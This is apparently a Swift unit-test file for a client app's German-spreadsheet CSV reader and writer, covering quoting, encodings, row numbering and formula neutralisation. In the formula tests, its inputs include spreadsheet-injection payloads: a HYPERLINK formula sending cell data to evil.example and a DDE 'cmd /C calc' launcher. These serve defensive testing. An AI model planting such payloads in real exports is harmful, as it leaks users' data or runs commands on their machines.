import Foundation
import XCTest
import KetteProtocol
@testable import KetteClient

/// The spreadsheet dialect: what we write opens in a German spreadsheet, and what spreadsheets
/// write reads back cell for cell.
final class CSVTests: XCTestCase {
    private let bom: [UInt8] = [0xEF, 0xBB, 0xBF]

    private func text(_ data: Data) -> String { String(decoding: data.dropFirst(3), as: UTF8.self) }

    private func cells(_ text: String, bom: Bool = false) throws -> [[String]] {
        try CSV.read(Data((bom ? self.bom : []) + Array(text.utf8))).map(\.cells)
    }

    func testWritesMarkSemicolonsAndCRLF() {
        let data = CSV.write([["Titel", "Sozialraum"], ["Sprachförderung", "Südstadt"]])
        XCTAssertEqual(Array(data.prefix(3)), bom)
        XCTAssertEqual(text(data), "Titel;Sozialraum\r\nSprachförderung;Südstadt\r\n")
    }

    func testQuotesOnlyCellsThatNeedIt() {
        let data = CSV.write([["a;b", "er sagte \"hallo\"", "Zeile 1\nZeile 2", "Zeile\r\n2", "schlicht", ""]])
        XCTAssertEqual(text(data), "\"a;b\";\"er sagte \"\"hallo\"\"\";\"Zeile 1\nZeile 2\";\"Zeile\r\n2\";schlicht;\r\n")
    }

    func testReadsQuotedSeparatorsQuotesAndLineBreaks() throws {
        let rows = try cells("Titel;Beschreibung\r\n\"Eltern; Kinder\";\"sagt \"\"Moin\"\"\r\nund geht\"\r\n")
        XCTAssertEqual(rows, [["Titel", "Beschreibung"], ["Eltern; Kinder", "sagt \"Moin\"\r\nund geht"]])
    }

    func testRowNumbersCountRecordsNotLines() throws {
        let rows = try CSV.read(Data("a;b\r\n\"x\ny\";z\r\nlast;row".utf8))
        XCTAssertEqual(rows.map(\.number), [1, 2, 3])
        XCTAssertEqual(rows.last?.cells, ["last", "row"])
    }

    func testMarkIsOptionalAndNeverPartOfTheFirstCell() throws {
        XCTAssertEqual(try cells("Titel;Ort\r\n", bom: true), [["Titel", "Ort"]])
        XCTAssertEqual(try cells("Titel;Ort\r\n", bom: false), [["Titel", "Ort"]])
    }

    func testAcceptsLFAndCRLineEndsAndEmptyCells() throws {
        XCTAssertEqual(try cells("a;b\nc;\n;d"), [["a", "b"], ["c", ""], ["", "d"]])
        XCTAssertEqual(try cells("a;b\rc;d\r"), [["a", "b"], ["c", "d"]])
        XCTAssertEqual(try cells("a;;\r\n\r\n\"\";x"), [["a", "", ""], [""], ["", "x"]])
        XCTAssertTrue(try CSV.read(Data("a;b\r\n;  \r\n".utf8))[1].isBlank)
    }

    func testUmlautsAndOtherScriptsRoundTrip() throws {
        let rows = [["Übergang Schule–Beruf", "Frühe Kindheit", "Öztürk", "Yılmaz", "Olga Петренко", "ß ẞ €"],
                    ["\"Zitat\"; mit Semikolon\nund Zeilenumbruch", "", " Leerzeichen "]]
        XCTAssertEqual(try CSV.read(CSV.write(rows)).map(\.cells), rows)
    }

    func testBrokenQuotingNamesRowAndColumn() {
        XCTAssertThrowsError(try CSV.read(Data("a;b\r\nc;\"offen\r\nx;y\r\n".utf8))) { error in
            XCTAssertEqual(error as? CSVError, CSVError(row: 2, kind: .unterminatedQuote(column: 2)))
        }
        XCTAssertThrowsError(try CSV.read(Data("a;b\r\n\"zu\"x;y\r\n".utf8))) { error in
            XCTAssertEqual(error as? CSVError, CSVError(row: 2, kind: .textAfterClosingQuote(column: 1)))
        }
        // A quote inside an unquoted cell is text, as spreadsheets read it.
        XCTAssertEqual(try? CSV.read(Data("5\" Zoll;b".utf8)).map(\.cells), [["5\" Zoll", "b"]])
    }

    func testBytesThatAreNotUTF8AreReportedWhereTheyAre() {
        // "Südstadt" as Windows-1252 writes it (ü = 0xFC): what "CSV (Trennzeichen-getrennt)" saves.
        let data = Data(Array("Titel;Sozialraum\r\nKurs;S".utf8) + [0xFC] + Array("dstadt\r\n".utf8))
        XCTAssertThrowsError(try CSV.read(data)) { error in
            XCTAssertEqual(error as? CSVError, CSVError(row: 2, kind: .notUTF8(column: 2)))
            XCTAssertTrue((error as? CSVError)?.message(.german).contains("CSV UTF-8") == true)
        }
    }

    // MARK: Formulas

    /// The cells as they stand in the file, marks included.
    private func rawCells(_ data: Data, separator: Character = ";") throws -> [[String]] {
        let literal = CSVDialect(separator: separator, lineEnding: .crlf, byteOrderMark: true, neutralizesFormulas: false)
        return try CSV.read(data, dialect: literal).map(\.cells)
    }

    func testCellsThatStartLikeAFormulaAreWrittenWithAnApostropheAndReadBackWithout() throws {
        let formulas = ["=HYPERLINK(\"http://evil.example/?d=\"&A2;\"x\")", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                        "\t=1", "\r=1", "=", "-", "+"]
        let data = CSV.write([formulas])
        XCTAssertEqual(try rawCells(data)[0], formulas.map { "'" + $0 }, "every one gets the mark")
        XCTAssertEqual(try CSV.read(data).map(\.cells), [formulas], "and reading takes it away again")
        XCTAssertTrue(text(data).hasPrefix("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2;\"\"x\"\")\";'+SUM(1+1)"), text(data))
    }

    func testPlainNumbersAndOrdinaryTextStayAsTheyAre() throws {
        let cells = ["-12", "+3", "-1,5", "2.75", "Kurs = Spaß", "E-Mail: a@b.de", "'quoted'", "'", "0521 123", ""]
        XCTAssertEqual(try rawCells(CSV.write([cells]))[0], cells)
        XCTAssertEqual(try CSV.read(CSV.write([cells])).map(\.cells), [cells])
    }

    func testTextThatAlreadyStartsWithTheMarkRoundTripsExactly() throws {
        // The rule looks past leading apostrophes, so "'=x" (typed as a title) is written with one
        // apostrophe more and reads back as it was, not as "=x".
        let cells = ["'=x", "''+y", "'-2+3", "'@z", "'-12"]
        XCTAssertEqual(try rawCells(CSV.write([cells]))[0], ["''=x", "'''+y", "''-2+3", "''@z", "'-12"])
        XCTAssertEqual(try CSV.read(CSV.write([cells])).map(\.cells), [cells])
        // A file from elsewhere: the mark before a formula goes, other apostrophes stay.
        XCTAssertEqual(try self.cells("'=1+1;'Text;'-12\r\n"), [["=1+1", "'Text", "'-12"]])
        for text in ["=a", "'=a", "''=a", "-", "'-", "-5", "'-5", "x", "'x", ""] {
            XCTAssertEqual(CSVFormula.restored(CSVFormula.neutralized(text)), text)
        }
    }

    func testTheReportDialectSeparatesByCommaWithoutMarkAndNeutralizesToo() throws {
        let data = CSV.write([["district", "name"], ["nord", "Nord, Süd"], ["ost", "=1+1"]], dialect: .rfc4180)
        XCTAssertEqual(String(decoding: data, as: UTF8.self), "district,name\r\nnord,\"Nord, Süd\"\r\nost,'=1+1\r\n")
        XCTAssertEqual(try CSV.read(data, dialect: .rfc4180).map(\.cells), [["district", "name"], ["nord", "Nord, Süd"], ["ost", "=1+1"]])
    }

    func testLeadingAndTrailingSpacesAreQuotedSoSpreadsheetsKeepThem() {
        XCTAssertEqual(text(CSV.write([[" Leerzeichen ", "a b"]])), "\" Leerzeichen \";a b\r\n")
    }

    func testNameBasedIDsAreVersion5UUIDs() {
        // The RFC 4122 example namespace for DNS names; the expected value is Python's uuid.uuid5(NAMESPACE_DNS, "python.org").
        XCTAssertEqual(NameBasedID.uuid("python.org", namespace: "6ba7b810-9dad-11d1-80b4-00c04fd430c8"),
                       "886313e1-3b8a-5372-9b90-0c9aee199e5d")
        let id = NameBasedID.uuid("offer/3f2a/phase/preschool")
        XCTAssertEqual(id, NameBasedID.uuid("offer/3f2a/phase/preschool"))
        XCTAssertNotEqual(id, NameBasedID.uuid("offer/3f2a/phase/primary"))
        XCTAssertNotNil(UUID(uuidString: id))
        XCTAssertEqual(Array(id)[14], "5")
    }
}
